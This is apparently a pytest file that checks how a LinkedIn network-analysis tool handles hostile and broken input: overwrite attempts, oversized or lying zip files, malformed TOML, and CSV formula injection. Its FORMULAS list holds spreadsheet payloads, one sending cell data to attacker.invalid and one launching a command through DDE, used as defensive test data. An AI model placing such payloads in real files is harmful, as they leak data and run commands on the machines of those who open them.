"""Hostile and broken input (issue 17): every case ends as one clear error or a correct acceptance.

The table :data:`CASES` holds the bad inputs and bad outputs tried as an
attacker and as a careless user would: each names what it does to a fresh
LinkedIn export folder (the "student" sample with its archive), the command,
the exit code and a fragment of the expected message.  For each, the test
checks that no traceback is printed, that every input file is byte-identical
afterwards and that a previous report at the output path is intact.
"""
from __future__ import annotations

import csv
import errno
import io
import os
import shutil
import subprocess
import sys
import zipfile
from dataclasses import dataclass
from pathlib import Path
from typing import Callable

import pandas as pd
import pytest

from netanalysis import cli
from netanalysis.errors import InputError, Problems
from netanalysis.io import files as input_files
from netanalysis.io import write as write_module
from netanalysis.io.connections import read_connections
from netanalysis.io.contacts import read_contacts
from netanalysis.io.linkedin.archive import read_archive
from netanalysis.io.spreadsheet import escape_cell
from netanalysis.io.write import OutputError, Outputs
from netanalysis.sample import write_sample

ROOT = Path(__file__).resolve().parents[1]
AS_OF = "2026-11-01"
PREVIOUS = b"<html>the previous report</html>"


@pytest.fixture(scope="module")
def sample(tmp_path_factory) -> Path:
    folder = tmp_path_factory.mktemp("sample") / "Firstname-Lastname-export"
    write_sample(folder, "student", seed=2)
    return folder


@pytest.fixture
def export(sample, tmp_path) -> Path:
    """A fresh copy of the export folder (the tests change it)."""
    folder = tmp_path / sample.name
    shutil.copytree(sample, folder)
    return folder


def run(argv: list[str], capsys) -> tuple[int, str, str]:
    try:
        code = cli.main([str(a) for a in argv])
    except SystemExit as exit_:  # argparse: bad options
        code = exit_.code
    out, err = capsys.readouterr()
    return code, out, err


def a_connection(folder: Path) -> str:
    return read_connections(folder / "Connections.csv")["contact"].iloc[0]


def append(path: Path, text: str) -> None:
    data = path.read_bytes()
    path.write_bytes(data + (b"" if data.endswith(b"\n") else b"\n") + text.encode("utf-8"))


def log_row(folder: Path, date: str) -> None:
    """A full log row on ``date`` with a connection of the sample."""
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="\n").writerow([date, a_connection(folder), "coffee", "gave", "", "", "", "", ""])
    append(folder / "interactions.csv", buffer.getvalue())


def replace_in(path: Path, old: str, new: str) -> None:
    path.write_text(path.read_text(encoding="utf-8").replace(old, new, 1), encoding="utf-8")


def first_date(path: Path, column: int) -> str:
    rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8"))))
    header = next(i for i, row in enumerate(rows) if len(row) > column and row[0] in ("First Name", "date",
                                                                                      "Endorsement Date"))
    return rows[header + 1][column]


@dataclass
class Case:
    id: str
    argv: Callable[[Path, Path], list]  # (export folder, output folder) -> arguments
    code: int
    words: str
    setup: Callable[[Path, Path], None] | None = None


def _report(*extra):
    return lambda f, o: ["report", f, "--as-of", AS_OF, "-o", o / "r.html", *extra]


def _dotted_goals(folder: Path, _out: Path) -> None:
    (folder / "goals.toml").write_text("x = " + "[" * 100_000, encoding="utf-8")


def _fifo(folder: Path, out: Path) -> None:
    os.mkfifo(out.parent / "pipe.csv")


def _handins(folder: Path, out: Path) -> None:
    handins = out.parent / "handins"
    handins.mkdir()
    (handins / "s1.json").write_text('{"depth": {"connections": 3}}', encoding="utf-8")


def _bad_zip(content: bytes):
    def setup(folder: Path, out: Path) -> None:
        (out.parent / "archive.zip").write_bytes(content)
    return setup


def _cut_zip(folder: Path, out: Path) -> None:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as z:
        for path in sorted(folder.iterdir()):
            z.write(path, f"Basic_LinkedIn_Data/{path.name}")
    (out.parent / "archive.zip").write_bytes(buffer.getvalue()[: len(buffer.getvalue()) // 2])


CASES = [
    # 1. Outputs never overwrite inputs (every file of the archive folder, each hand-in, symlinks resolved).
    Case("report-o-archive-member", lambda f, o: ["report", f, "--as-of", AS_OF, "-o", f / "messages.csv"], 1,
         "messages.csv of your archive folder"),
    Case("contacts-o-archive-member", lambda f, o: ["contacts", f, "--as-of", AS_OF, "-o", f / "Invitations.csv"],
         1, "refusing to overwrite it"),
    Case("report-json-archive-member", _report("--json", "{f}/Profile.csv"), 1, "--json"),
    Case("report-o-connections", lambda f, o: ["report", f, "--as-of", AS_OF, "-o", f / "Connections.csv"], 1,
         "your connections input"),
    Case("symlink-to-input", lambda f, o: ["report", f, "--as-of", AS_OF, "-o", o / "link.html"], 1,
         "refusing to overwrite it",
         setup=lambda f, o: (o / "link.html").symlink_to(f / "interactions.csv")),
    Case("hard-link-to-input", lambda f, o: ["contacts", f, "--as-of", AS_OF, "-o", o / "hard.csv"], 1,
         "refusing to overwrite it", setup=lambda f, o: os.link(f / "contacts.csv", o / "hard.csv")),
    Case("output-read-next-time", lambda f, o: ["contacts", f, "--as-of", AS_OF, "-o", f / "goals.toml"], 1,
         "would be read as an input the next time", setup=lambda f, o: (f / "goals.toml").unlink()),
    Case("class-o-handin", lambda f, o: ["class", o.parent / "handins", "--as-of", AS_OF, "-o",
                                         o.parent / "handins" / "s1.json"], 1, "the hand-in s1.json",
         setup=_handins),
    Case("class-o-new-handin", lambda f, o: ["class", o.parent / "handins", "--as-of", AS_OF, "-o",
                                             o.parent / "handins" / "s2.json"], 1, "would be read as an input",
         setup=_handins),
    Case("same-file-twice", _report("--json", "{o}/r.html"), 1, "is also given to --json; each output needs its own file"),
    Case("o-names-a-folder", lambda f, o: ["report", f, "--as-of", AS_OF, "-o", o], 1,
         "-o names a folder. Fix: give a file name"),
    Case("o-below-a-file", lambda f, o: ["report", f, "--as-of", AS_OF, "-o", o / "r.html" / "x.html"], 1,
         "a part of the path is a file"),
    # 2. No traceback.
    Case("connected-on-year-1", _report(), 1, "'01 Jan 0001' is before 1900 or after 2100",
         setup=lambda f, o: replace_in(f / "Connections.csv", first_date(f / "Connections.csv", 6), "01 Jan 0001")),
    Case("connected-on-9999", _report(), 1, "9999 is a common 'no end date' placeholder",
         setup=lambda f, o: replace_in(f / "Connections.csv", first_date(f / "Connections.csv", 6), "31 Dec 9999")),
    Case("log-date-year-1", _report(), 1, "column 'date': '0001-01-01' is before 1900",
         setup=lambda f, o: log_row(f, "0001-01-01")),
    Case("log-date-9999-in-check", lambda f, o: ["check", f], 1, "(9999-12-31 is a common 'no end date' placeholder)",
         setup=lambda f, o: log_row(f, "9999-12-31")),
    Case("as-of-year-1", lambda f, o: ["report", f, "--as-of", "0001-01-01", "-o", o / "r.html"], 2,
         "give a day from 1900 to 2100"),
    Case("as-of-9999", lambda f, o: ["check", f, "--as-of", "9999-12-31"], 2, "is not a review date"),
    Case("goals-deeply-nested", _report(), 1, "goals.toml: nests tables or lists too deeply", setup=_dotted_goals),
    Case("goals-wrong-type", _report(), 1, "column 'review.half_life_days': 'soon' is not a number",
         setup=lambda f, o: (f / "goals.toml").write_text('[review]\nhalf_life_days = "soon"\n', encoding="utf-8")),
    Case("goals-not-toml", _report(), 1, "goals.toml line 2: is not valid TOML",
         setup=lambda f, o: (f / "goals.toml").write_text('[review]\nhalf_life_days = = 3\n', encoding="utf-8")),
    Case("connections-dev-zero", lambda f, o: ["check", "--connections", "/dev/zero"], 1,
         "/dev/zero: is a device, not a file"),
    Case("connections-fifo", lambda f, o: ["report", "--connections", o.parent / "pipe.csv", "-o", o / "r.html"], 1,
         "pipe.csv: is a named pipe (FIFO), not a file", setup=_fifo),
    Case("goals-a-folder", lambda f, o: ["report", f, "--goals", o, "-o", o / "r.html"], 1,
         "is a folder, not a file"),
    Case("a-folder-named-like-an-input", lambda f, o: ["check", f], 1, "interactions.csv: is a folder, not a file",
         setup=lambda f, o: ((f / "interactions.csv").unlink(), (f / "interactions.csv").mkdir())),
    Case("sample-too-many-connections", lambda f, o: ["sample", "--connections", 10 ** 12, "-o", o / "s"], 1,
         "LinkedIn allows at most 30,000 connections"),
    Case("sample-too-many-interactions", lambda f, o: ["sample", "--interactions", 10 ** 9, "-o", o / "s"], 1,
         "give --interactions 100000 or less"),
    Case("sample-too-many-messages", lambda f, o: ["sample", "--messages", 10 ** 9, "-o", o / "s"], 1,
         "give --messages 300000 or less"),
    # 3. No silent wrong result.
    Case("goals-typo-section", _report(), 1, "'reveiw': is not a section of goals.toml. Fix: did you mean [review]?",
         setup=lambda f, o: (f / "goals.toml").write_text("[reveiw]\nhalf_life_days = 30\n", encoding="utf-8")),
    Case("goals-typo-key", _report(), 1, "is not a key of [review]. Fix: did you mean 'half_life_days'?",
         setup=lambda f, o: (f / "goals.toml").write_text("[review]\nhalflife_days = 30\n", encoding="utf-8")),
    Case("goals-string-for-table", _report(), 1, "'mission': 'Grow' must be a table",
         setup=lambda f, o: (f / "goals.toml").write_text('mission = "Grow"\n', encoding="utf-8")),
    Case("goals-key-outside-section", _report(), 1, "is outside its section. Fix: write it under [review]",
         setup=lambda f, o: (f / "goals.toml").write_text("half_life_days = 30\n", encoding="utf-8")),
    Case("goals-bad-email", _report(), 1, "column 'me.emails': 'me at x.dk' is not an e-mail address",
         setup=lambda f, o: (f / "goals.toml").write_text('[me]\nemails = ["me at x.dk"]\n', encoding="utf-8")),
    Case("goals-email-not-a-list", _report(), 1, "is not a list of addresses",
         setup=lambda f, o: (f / "goals.toml").write_text('[me]\nemails = 42\n', encoding="utf-8")),
    Case("goals-meeting-size", _report(), 1, "'review.max_meeting_size': '1' is not a whole number from 2",
         setup=lambda f, o: (f / "goals.toml").write_text("[review]\nmax_meeting_size = 1\n", encoding="utf-8")),
    Case("duplicate-direction-column", _report(), 1, "has two columns for 'direction'",
         setup=lambda f, o: (f / "interactions.csv").write_text(
             f"date,contact,kind,direction,direction\n2026-01-02,{a_connection(f)},coffee,gave,received\n",
             encoding="utf-8")),
    # 6. Errors that say what to do.
    Case("not-a-zip", lambda f, o: ["report", o.parent / "archive.zip", "-o", o / "r.html"], 1,
         "archive.zip: is not a zip file (or is cut off). Fix: download it again", setup=_bad_zip(b"not a zip")),
    Case("cut-off-zip", lambda f, o: ["check", o.parent / "archive.zip"], 1,
         "archive.zip: is not a zip file (or is cut off). Fix: download it again", setup=_cut_zip),
    Case("binary-names-its-line", lambda f, o: ["check", f], 1, "Connections.csv line 1: holds binary data",
         setup=lambda f, o: (f / "Connections.csv").write_bytes(b"\x00\x01\x02\x03\x04 " * 40)),
    # 7. Resource limits, before anything is read.
    Case("header-with-a-million-columns", lambda f, o: ["check", f], 1, "has 10,004 columns in its header line; at most 200 are read",
         setup=lambda f, o: (f / "interactions.csv").write_text(
             "date,contact,kind,direction," + ",".join(f"c{i}" for i in range(10_000)) + "\n", encoding="utf-8")),
    Case("connections-beyond-linkedins-limit", lambda f, o: ["check", f], 1,
         "has 50,001 rows; LinkedIn allows 30,000 connections",
         setup=lambda f, o: (f / "Connections.csv").write_text(
             "First Name,Last Name,Connected On\n" + "Ann,Lee,04 Jul 2023\n" * 50_001, encoding="utf-8")),
    Case("a-log-row-with-a-crowd", _report(), 1, "column 'with': '51 people' names more than 50 people",
         setup=lambda f, o: (f / "interactions.csv").write_text(_csv_text(
             ["date", "contact", "kind", "direction", "with"],
             [["2026-01-02", a_connection(f), "event", "mutual", ";".join(f"Guest {i}" for i in range(51))]]),
             encoding="utf-8")),
    Case("knows-everyone", _report(), 1, "names 200,001 people in 'knows' (at most 200,000 are read)",
         setup=lambda f, o: (f / "contacts.csv").write_text(
             "contact,knows\n" + a_connection(f).replace(",", " ") + ",\"" + ";".join(["Ann"] * 200_001) + "\"\n",
             encoding="utf-8")),
    Case("a-log-of-strangers", lambda f, o: ["check", f], 1, "names more than 30,000 people who are not among",
         setup=lambda f, o: (f / "interactions.csv").write_text(
             "date,contact,kind,direction\n" + "".join(f"2026-01-02,Stranger {i},coffee,gave\n"
                                                       for i in range(30_001)), encoding="utf-8")),
    Case("one-line-of-a-megabyte", lambda f, o: ["check", f], 1, "has a first line longer than 65,536 characters",
         setup=lambda f, o: (f / "contacts.csv").write_text("contact" + "x" * 1_000_000 + "\n", encoding="utf-8")),
]


@pytest.mark.parametrize("case", CASES, ids=[c.id for c in CASES])
def test_bad_input_ends_in_one_clear_message(case, export, tmp_path, snapshot, capsys):
    out = tmp_path / "out"
    out.mkdir()
    (out / "r.html").write_bytes(PREVIOUS)
    if case.setup:
        case.setup(export, out)
    snap = snapshot(export)
    argv = [str(a).format(f=export, o=out) for a in case.argv(export, out)]
    code, stdout, stderr = run(argv, capsys)
    text = stdout + stderr
    assert code == case.code, text
    assert case.words in text, text
    assert "Traceback" not in text
    if case.code == 1 and argv[0] != "check":
        assert stderr.startswith("error: ") and len(stderr.strip().splitlines()) == 1, stderr
        assert ". Fix: " in stderr
    snap.assert_unchanged()
    assert (out / "r.html").read_bytes() == PREVIOUS  # the previous report is intact
    assert sorted(p.name for p in out.iterdir() if not p.name.startswith("link") and p.name != "hard.csv") \
        == ["r.html"]  # and nothing else was written, not even a temporary file


def test_the_table_covers_every_command_that_writes():
    commands = {c.argv(Path("f"), Path("o"))[0] for c in CASES}
    assert {"report", "contacts", "class", "sample", "check"} <= commands
    assert len(CASES) >= 40


# --- outputs: all or none, and messages that name the path the user gave -------------------------------


def _fail_in(folder: Path, code: int, monkeypatch) -> None:
    """Make writing into ``folder`` fail as a full disk or a read-only folder would."""
    real = write_module.tempfile.mkstemp

    def mkstemp(*args, dir=None, **kwargs):
        if Path(dir).resolve() == folder.resolve():
            raise OSError(code, os.strerror(code))
        return real(*args, dir=dir, **kwargs)

    monkeypatch.setattr(write_module.tempfile, "mkstemp", mkstemp)


@pytest.mark.parametrize("code, words", [
    (errno.EROFS, "the folder is read-only. Fix: choose another -o"),
    (errno.ENOSPC, "the disk is full. Fix: free some space, or choose another -o on another disk"),
    (errno.EACCES, "you may not write in that folder. Fix: choose another -o"),
])
def test_a_run_that_writes_two_files_writes_both_or_none(code, words, export, tmp_path, snapshot, monkeypatch, capsys):
    unwritable = tmp_path / "unwritable"
    unwritable.mkdir()
    (tmp_path / "out").mkdir()
    (tmp_path / "out" / "s.json").write_bytes(b"previous summary")
    _fail_in(unwritable, code, monkeypatch)
    snap = snapshot(export)
    status, _, err = run(["report", export, "--as-of", AS_OF, "--json", tmp_path / "out" / "s.json",
                          "-o", unwritable / "r.html"], capsys)
    assert status == 1
    assert err == f"error: -o {unwritable / 'r.html'}: cannot be written: {words}\n"
    assert ".tmp" not in err
    assert (tmp_path / "out" / "s.json").read_bytes() == b"previous summary"
    assert sorted(p.name for p in (tmp_path / "out").iterdir()) == ["s.json"]
    assert list(unwritable.iterdir()) == []
    snap.assert_unchanged()


def test_a_disk_that_fills_up_while_writing_leaves_nothing(tmp_path, monkeypatch):
    real = os.fdopen

    class Full(io.BytesIO):
        def write(self, data):
            raise OSError(errno.ENOSPC, "No space left on device")

    def fdopen(handle, mode="r", *args, **kwargs):
        if "w" in mode:
            real(handle, mode).close()
            return Full()
        return real(handle, mode, *args, **kwargs)

    monkeypatch.setattr(write_module.os, "fdopen", fdopen)
    outputs = Outputs()
    outputs.add(tmp_path / "a" / "r.html", "x", option="-o", shown="r.html")
    with pytest.raises(OutputError, match=r"^-o r.html: cannot be written: the disk is full"):
        outputs.commit()
    assert list(tmp_path.iterdir()) == []  # the folder it made is gone too


def test_a_rename_that_fails_puts_back_what_was_replaced(tmp_path, monkeypatch):
    (tmp_path / "one.html").write_text("old one")
    (tmp_path / "two.html").write_text("old two")
    real = os.replace

    def replace(source, target):
        if Path(target).name == "two.html" and str(source).endswith(".tmp"):
            raise OSError(errno.EIO, "Input/output error")
        return real(source, target)

    monkeypatch.setattr(write_module.os, "replace", replace)
    outputs = Outputs()
    outputs.add(tmp_path / "one.html", "new one")
    outputs.add(tmp_path / "two.html", "new two")
    with pytest.raises(OutputError):
        outputs.commit()
    assert (tmp_path / "one.html").read_text() == "old one" and (tmp_path / "two.html").read_text() == "old two"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["one.html", "two.html"]


def test_anonymize_writes_every_file_or_none(export, tmp_path, monkeypatch, capsys):
    out = tmp_path / "hand-in"
    real = write_module.os.replace
    calls = []

    def replace(source, target):
        calls.append(target)
        if len(calls) == 3:
            raise OSError(errno.ENOSPC, "No space left on device")
        return real(source, target)

    monkeypatch.setattr(write_module.os, "replace", replace)
    status, _, err = run(["anonymize", export, "-o", out], capsys)
    assert status == 1 and "the disk is full" in err
    assert not out.exists() or list(out.iterdir()) == []


# --- the last resort: a bug is one line and exit code 3 ----------------------------------------------------


def test_an_unexpected_error_is_one_line_saying_it_is_a_bug(export, monkeypatch, capsys):
    from netanalysis import commands

    def broken(*args, **kwargs):
        raise KeyError("boom")

    monkeypatch.setattr(commands, "check", broken)
    monkeypatch.delenv(cli.DEBUG_VARIABLE, raising=False)
    status, out, err = run(["check", export], capsys)
    assert status == cli.EXIT_BUG == 3
    [line] = err.strip().splitlines()
    assert line.startswith("error: internal error, a bug in netanalysis (KeyError: 'boom')")
    assert "python -m netanalysis check" in line and "NETANALYSIS_DEBUG=1" in line
    monkeypatch.setenv(cli.DEBUG_VARIABLE, "1")
    with pytest.raises(KeyError):
        cli.main(["check", str(export)])


def test_out_of_memory_is_exit_3_without_a_traceback(export, monkeypatch, capsys):
    from netanalysis import commands

    def hungry(*args, **kwargs):
        raise MemoryError

    monkeypatch.setattr(commands, "report", hungry)
    status, _, err = run(["report", export, "-o", "x.html"], capsys)
    assert status == 3 and err.startswith("error: out of memory") and "Traceback" not in err


def test_subprocess_fifo_and_year_one_never_hang_nor_trace(export, tmp_path):
    os.mkfifo(tmp_path / "pipe.csv")
    replace_in(export / "messages.csv", "2026-", "0001-")
    for argv, code in ((["check", "--connections", str(tmp_path / "pipe.csv")], 1),
                       (["check", str(export)], 0),
                       (["report", str(export), "--as-of", "0001-01-01", "-o", str(tmp_path / "r.html")], 2)):
        result = subprocess.run([sys.executable, "-m", "netanalysis", *argv], cwd=ROOT, capture_output=True,
                                text=True, encoding="utf-8", timeout=120)
        assert result.returncode == code, result.stderr
        assert "Traceback" not in result.stdout + result.stderr


# --- archive rows: dates out of range, from the future, resource limits --------------------------------


def test_archive_dates_before_1900_or_after_2100_are_warnings_and_the_rows_are_left_out(export, capsys):
    replace_in(export / "messages.csv", "2026-", "0001-")  # the newest message now "opens" a conversation in year 1
    path = export / "Endorsement_Received_Info.csv"
    replace_in(path, "2026/", "9999/")
    problems = Problems()
    archive = read_archive(export, problems=problems)
    assert not problems.errors
    codes = {(p.file, p.code) for p in problems.warnings}
    assert ("messages.csv", "date-out-of-range") in codes
    assert ("Endorsement_Received_Info.csv", "date-out-of-range") in codes
    assert archive.messages["date"].dt.year.min() >= 1900
    assert archive.endorsements["date"].dt.year.max() <= 2100
    status, out, _ = run(["check", export], capsys)
    assert status == 0 and "is before 1900 or after 2100" in out and "the row is left out" in out


def test_archive_rows_from_the_future_are_a_warning_and_out_of_the_review(export, capsys):
    import netanalysis

    path = export / "Endorsement_Received_Info.csv"
    replace_in(path, "2026/", "2030/")
    status, out, _ = run(["check", export], capsys)
    assert status == 0
    assert "warning: Endorsement_Received_Info.csv line 2: 1 row(s) are dated after today" in out
    net = netanalysis.load(export)
    table = netanalysis.review(net, as_of=AS_OF).contacts
    later = netanalysis.review(net, as_of="2030-12-31").contacts
    assert table["endorsements_received"].sum() == later["endorsements_received"].sum() - 1


def test_a_nul_byte_after_the_first_4kb_is_removed_and_never_copied(export, tmp_path, capsys):
    connections = export / "Connections.csv"
    data = connections.read_bytes()
    last_line = data.rstrip(b"\n").rsplit(b"\n", 1)[1]
    name = last_line.split(b",")[0]
    assert len(data) > 4096 and name
    connections.write_bytes(data.replace(last_line, last_line.replace(name, name[:2] + b"\x00" + name[2:], 1)))
    status, out, _ = run(["check", export], capsys)
    assert status == 0
    line = data.count(b"\n", 0, data.index(last_line)) + 1
    assert f"warning: Connections.csv line {line}: holds a control character (U+0000), removed" in out
    assert run(["contacts", export, "--as-of", AS_OF, "-o", tmp_path / "c.csv"], capsys)[0] == 0
    text = (tmp_path / "c.csv").read_bytes()
    assert b"\x00" not in text and name in text


def test_a_file_cut_off_mid_row_is_a_warning_naming_its_line(export, capsys):
    connections = export / "Connections.csv"
    data = connections.read_bytes().rstrip(b"\n")
    cut = b",".join(data.rsplit(b"\n", 1)[1].split(b",")[:3])
    connections.write_bytes(data.rsplit(b"\n", 1)[0] + b"\n" + cut)
    status, out, _ = run(["check", export], capsys)
    assert status == 0
    assert "fewer fields on its last row than the header has (7): the file may be cut off" in out
    assert "was the download complete?" in out


@pytest.mark.parametrize("lie", [False, True], ids=["declared", "declared-small-but-inflates"])
def test_an_archive_member_larger_than_its_limit_is_refused(lie, tmp_path, monkeypatch):
    monkeypatch.setitem(input_files.MAX_BYTES, "messages.csv", 100_000)
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("messages.csv", b"FROM,TO,DATE\n" + b"a,b,2024-06-18 11:59:53 UTC\n" * 20_000)
    data = bytearray(buffer.getvalue())
    if lie:  # a zip may say a member is small: the inflated bytes are counted too
        import struct

        struct.pack_into("<I", data, data.find(b"PK\x03\x04") + 22, 1000)
        struct.pack_into("<I", data, data.find(b"PK\x01\x02") + 24, 1000)
    (tmp_path / "archive.zip").write_bytes(bytes(data))
    problems = Problems()
    archive = read_archive(tmp_path / "archive.zip", problems=problems)
    [error] = problems.errors
    assert archive.messages is None and error.file == "archive.zip/messages.csv"
    words = "cannot be read: the zip is damaged or cut off" if lie else "is too large (546.9 KiB; at most 97.7 KiB is read)"
    assert words in str(error)


def test_a_mass_message_is_left_out_with_a_warning(export, capsys):
    me = "Sofie Nørgaard"
    crowd = ",".join(f"Guest {i}" for i in range(101))
    append(export / "messages.csv", _csv_text([], [["c-mass", "", me, "", crowd, "", "2026-06-01 10:00:00 UTC",
                                                    "", "hi all", "INBOX", "", "No", "No"]]).lstrip("\r\n"))
    problems = Problems()
    archive = read_archive(export, problems=problems)
    assert not problems.errors
    [warning] = [p for p in problems.warnings if p.code == "too-many-recipients"]
    assert "has more than 100 recipients: a mass message, left out" in str(warning)
    assert archive.dropped["messages to more than 100 people"] == 1
    assert not archive.messages["counterpart"].str.startswith("Guest ").any()


def test_messages_that_would_explode_into_too_many_rows_are_refused(export, monkeypatch):
    from netanalysis.io.linkedin import messages

    monkeypatch.setattr(messages, "MAX_MESSAGE_ROWS", 50)
    problems = Problems()
    archive = read_archive(export, problems=problems)
    [error] = problems.errors
    assert archive.messages is None and "(message, person) rows; at most 50 are read" in str(error)


def test_a_zip_listing_too_many_files_is_refused(tmp_path, monkeypatch):
    from netanalysis.io.linkedin import members as archive_module

    monkeypatch.setattr(archive_module, "MAX_MEMBERS", 5)
    with zipfile.ZipFile(tmp_path / "archive.zip", "w") as z:
        for index in range(6):
            z.writestr(f"junk/{index}.csv", "x")
    problems = Problems()
    read_archive(tmp_path / "archive.zip", problems=problems)
    [error] = problems.errors
    assert str(error).startswith("archive.zip: lists 6 files (at most 5 are read)")


def test_a_file_larger_than_its_limit_is_refused_before_it_is_read(tmp_path, monkeypatch):
    monkeypatch.setattr(input_files, "DEFAULT_MAX_BYTES", 1000)
    path = tmp_path / "Connections.csv"
    path.write_bytes(b"First Name,Last Name,Connected On\n" + b"Ann,Lee,04 Jul 2023\n" * 100)
    with pytest.raises(InputError, match=r"Connections.csv: is too large"):
        read_connections(path)


def test_the_limits_are_documented_in_the_readme():
    readme = (ROOT / "README.md").read_text(encoding="utf-8")
    for words in ("128 MiB", "16 MiB", "200 columns", "30,000", "100,000", "300,000", "exit code 3"):
        assert words in readme, words


# --- CSV for spreadsheets (OWASP CSV injection) --------------------------------------------------------

FORMULAS = ['=HYPERLINK("https://attacker.invalid/?leak="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)",
            "'=already quoted"]


def _csv_text(header, rows) -> str:
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\n")
    writer.writerow(header)
    writer.writerows(rows)
    return buffer.getvalue()


def test_contacts_csv_cells_are_safe_in_a_spreadsheet_and_read_back_unchanged(tmp_path, capsys):
    folder = tmp_path / "in"
    folder.mkdir()
    (folder / "Connections.csv").write_text(_csv_text(
        ["First Name", "Last Name", "URL", "Email Address", "Company", "Position", "Connected On"],
        [[f, "Lee", "", "", f, "CTO", "04 Jul 2023"] for f in FORMULAS]), encoding="utf-8")
    (folder / "contacts.csv").write_text(_csv_text(["contact", "circle", "chemistry"],
                                                   [[f"{f} Lee", "client", "4"] for f in FORMULAS]), encoding="utf-8")
    (folder / "interactions.csv").write_text(_csv_text(
        ["date", "contact", "kind", "direction", "value"],
        [["2026-10-01", f"{FORMULAS[0]} Lee", "help", "received", "5"]]), encoding="utf-8")
    assert run(["contacts", folder, "--as-of", AS_OF, "-o", tmp_path / "table.csv"], capsys)[0] == 0
    with open(tmp_path / "table.csv", newline="", encoding="utf-8") as stream:
        rows = list(csv.DictReader(stream))
    assert len(rows) == len(FORMULAS)
    for row in rows:
        for column, cell in row.items():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")) or _number(cell), (column, cell)
    assert {row["company"] for row in rows} == {"'" + f for f in FORMULAS} == {escape_cell(f) for f in FORMULAS}
    # Negative numbers stay numbers: a spreadsheet reads -4 as the number -4, never as a formula.
    assert [row["balance"] for row in rows if row["balance"].startswith("-")] == ["-5"]
    # The project's readers of the user's own files give the original values back (LinkedIn's files are
    # read as LinkedIn wrote them).
    back = read_contacts(tmp_path / "table.csv")
    assert sorted(back["contact"]) == sorted(f"{f} Lee" for f in FORMULAS)
    from netanalysis.io.interactions import read_interactions

    log = _csv_text(["date", "contact", "kind", "direction", "notes"],
                    [["2026-10-01", escape_cell(f), "coffee", "gave", escape_cell(f)] for f in FORMULAS])
    assert read_interactions(log.encode())["notes"].tolist() == FORMULAS


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_negative_numbers_in_numeric_columns_are_written_as_numbers():
    from netanalysis.io.spreadsheet import spreadsheet_safe

    frame = pd.DataFrame({"contact": ["-3", "Ann"], "balance": [-3, 2], "overdue": [-1.5, None]})
    out = io.StringIO()
    spreadsheet_safe(frame).to_csv(out, index=False)
    assert out.getvalue().splitlines() == ["contact,balance,overdue", "'-3,-3,-1.5", "Ann,2,"]
